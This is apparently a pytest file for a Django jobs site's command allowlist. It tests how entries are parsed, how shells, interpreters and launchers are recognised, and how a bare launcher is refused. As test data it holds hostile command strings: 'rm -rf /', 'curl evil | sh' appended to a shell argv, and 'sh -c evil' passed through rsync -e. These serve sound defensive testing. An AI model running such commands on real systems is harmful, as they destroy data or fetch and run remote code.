"""JOBS_COMMAND_ALLOWLIST: argv prefixes, launchers allowed only as whole commands,
and settings that refuse to start with a launcher alone. Commands run through a
real worker are in tests/e2e/test_execution.py and tests/e2e/test_command_child.py."""

import os
import subprocess
import sys
from pathlib import Path

import pytest

from jobs.core.command_allowlist import argv_problem, join, launcher_kind, parse_allowlist

ROOT = Path(__file__).resolve().parent.parent


def test_entries_are_separated_by_commas_and_split_into_words_as_a_shell_would():
    text = "/bin/echo,/usr/bin/rsync -a  '--exclude=a,b' ,  /bin/sh -c 'exit 3',,"
    assert parse_allowlist(text, allow_launchers=False) == [
        ("/bin/echo",),
        ("/usr/bin/rsync", "-a", "--exclude=a,b"),
        ("/bin/sh", "-c", "exit 3"),
    ]
    assert parse_allowlist("/bin/echo,/bin/sleep", allow_launchers=False) == [("/bin/echo",), ("/bin/sleep",)]
    assert parse_allowlist("", allow_launchers=False) == []


def test_join_writes_an_entry_that_reads_back_the_same():
    argv = ["/bin/sh", "-c", "printf 'x%s,y' \"$A\"; exit 3", "a,b", ""]
    assert parse_allowlist(f"/bin/echo, {join(argv)}", allow_launchers=False) == [("/bin/echo",), tuple(argv)]


@pytest.mark.parametrize(
    ("program", "kind"),
    [
        ("/bin/sh", "a shell"),
        ("bash", "a shell"),
        ("/usr/bin/python3.12", "an interpreter"),
        ("/usr/bin/perl5.36", "an interpreter"),
        ("node", "an interpreter"),
        ("/usr/bin/env", "a program that runs other programs"),
        ("/usr/bin/xargs", "a program that runs other programs"),
        ("/usr/bin/find", "a program that runs other programs"),
        ("/bin/echo", None),
        ("/usr/bin/rsync", None),
        ("/opt/jobs/shine", None),
    ],
)
def test_it_knows_shells_interpreters_and_programs_that_run_others(program, kind):
    assert launcher_kind(program) == kind


@pytest.mark.parametrize("entry", ["/bin/sh", "/usr/bin/env", "python3", "/usr/bin/timeout"])
def test_a_launcher_alone_is_refused_unless_launchers_are_allowed(entry):
    with pytest.raises(ValueError, match=f"'{entry}' is .*: alone, it would let Editors run any code on the workers"):
        parse_allowlist(f"/bin/echo, {entry}", allow_launchers=False)
    assert parse_allowlist(f"/bin/echo, {entry}", allow_launchers=True) == [("/bin/echo",), (entry,)]


ALLOWLIST = [("/bin/echo",), ("/usr/bin/rsync", "-a"), ("/bin/sh", "-c", "exit 3")]


@pytest.mark.parametrize(
    "argv",
    [
        ["/bin/echo"],
        ["/bin/echo", "hello", "$HOME; rm -rf /"],
        ["/usr/bin/rsync", "-a", "/src/", "/dst/"],
        ["/bin/sh", "-c", "exit 3"],
    ],
)
def test_an_argv_that_starts_with_an_entry_is_allowed(argv):
    assert argv_problem(argv, ALLOWLIST, allow_launchers=False) is None


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (
            ["/usr/bin/rsync", "-e", "sh -c evil", "x", "y"],
            "'/usr/bin/rsync -e 'sh -c evil' x y' is not in JOBS_COMMAND_ALLOWLIST (it allows /bin/echo, "
            "/usr/bin/rsync -a, /bin/sh -c 'exit 3'); an administrator must add it.",
        ),
        (
            ["/bin/sh", "-c", "rm -rf /"],
            "'/bin/sh -c 'rm -rf /'' is not in JOBS_COMMAND_ALLOWLIST (it allows",
        ),
        (
            ["echo", "hi"],  # found on PATH, but not the program listed
            "'echo hi' is not in JOBS_COMMAND_ALLOWLIST",
        ),
        (
            ["/bin/sh", "-c", "exit 3", "-c", "curl evil | sh"],
            "'/bin/sh -c 'exit 3' -c 'curl evil | sh'' is not in JOBS_COMMAND_ALLOWLIST: it allows "
            "'/bin/sh -c 'exit 3'' with no further arguments, since /bin/sh is a shell. "
            "An administrator must add the whole command.",
        ),
    ],
)
def test_an_argv_that_starts_with_no_entry_or_extends_a_launcher_is_refused(argv, message):
    assert argv_problem(argv, ALLOWLIST, allow_launchers=False).startswith(message)


def test_with_launchers_allowed_a_launcher_entry_is_a_prefix_like_any_other():
    argv = ["/bin/sh", "-c", "exit 3", "-c", "anything"]
    assert argv_problem(argv, ALLOWLIST, allow_launchers=True) is None
    assert argv_problem(["/bin/sh", "-c", "x"], [("/bin/sh",)], allow_launchers=True) is None


def test_no_allowlist_means_the_command_kind_is_off():
    assert argv_problem(["/bin/echo"], [], allow_launchers=False) == (
        "'/bin/echo' is not in JOBS_COMMAND_ALLOWLIST (it allows nothing: the command kind is off); "
        "an administrator must add it."
    )


def _start(env: dict) -> subprocess.CompletedProcess:
    """`manage.py check` with the site's own settings and `env`."""
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "jobsite.settings", "SECRET_KEY": "x", **env}
    return subprocess.run(
        [sys.executable, "manage.py", "check"], cwd=ROOT, env=env, capture_output=True, text=True, timeout=60
    )


def test_the_site_refuses_to_start_with_a_launcher_alone_saying_what_to_set():
    started = _start({"JOBS_COMMAND_ALLOWLIST": "/bin/echo,/bin/sh", "JOBS_COMMAND_ALLOW_LAUNCHERS": ""})
    assert started.returncode != 0
    assert started.stderr.strip().splitlines()[-1] == (
        "manage.py: JOBS_COMMAND_ALLOWLIST: '/bin/sh' is a shell: alone, it "
        "would let Editors run any code on the workers. List the whole command instead (e.g. "
        "'/bin/sh /opt/jobs/backup.sh', which allows that argv only), or set JOBS_COMMAND_ALLOW_LAUNCHERS=1 "
        "to allow it with any arguments"
    )
    started = _start({"JOBS_COMMAND_ALLOWLIST": "/bin/echo, /bin/sh -c 'unclosed"})
    assert started.returncode != 0
    assert (
        started.stderr.strip()
        .splitlines()[-1]
        .endswith('No closing quotation in "/bin/echo, /bin/sh -c \'unclosed": quote words as a shell would')
    )
    assert _start({"JOBS_COMMAND_ALLOWLIST": "/bin/echo,/bin/sh", "JOBS_COMMAND_ALLOW_LAUNCHERS": "1"}).returncode == 0
    assert _start({"JOBS_COMMAND_ALLOWLIST": "/bin/echo,/bin/sh /opt/jobs/backup.sh"}).returncode == 0
